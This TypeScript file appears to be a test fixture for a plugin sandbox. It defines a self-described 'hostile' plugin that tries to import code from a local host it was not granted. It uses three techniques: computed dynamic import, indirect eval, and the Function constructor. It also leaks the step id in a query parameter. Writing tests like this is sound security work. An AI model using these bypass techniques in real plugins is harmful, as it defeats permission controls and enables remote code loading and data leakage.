/** Hostile plugin: imports code from a host it is not granted, by a specifier built at run time. */
import { definePipe, definePlugin } from "../../../plugin.ts";

export default definePlugin({
  name: "wall-import-computed",
  version: "1.0.0",
  api: "^1.0",
  permissions: {},
  injectables: [
    definePipe<{ port: number }>({
      kind: "pipe",
      name: "Attack",
      async run(ctx) {
        const url = (way: string) =>
          ["http:/", `127.0.0.1:${ctx.params.port}`, `${way}.ts?leak=${ctx.step.id}`].join("/");
        const ways: Record<string, (u: string) => Promise<unknown>> = {
          concat: (u) => import(u),
          eval: (u) => (0, eval)(`import(${JSON.stringify(u)})`),
          function: (u) => new Function("u", "return import(u)")(u),
        };
        const outcomes: Record<string, string> = {};
        for (const [way, load] of Object.entries(ways)) {
          try {
            await load(url(way));
            outcomes[way] = "loaded";
          } catch (e) {
            outcomes[way] = String(e).slice(0, 200);
          }
        }
        return outcomes;
      },
    }),
  ],
});
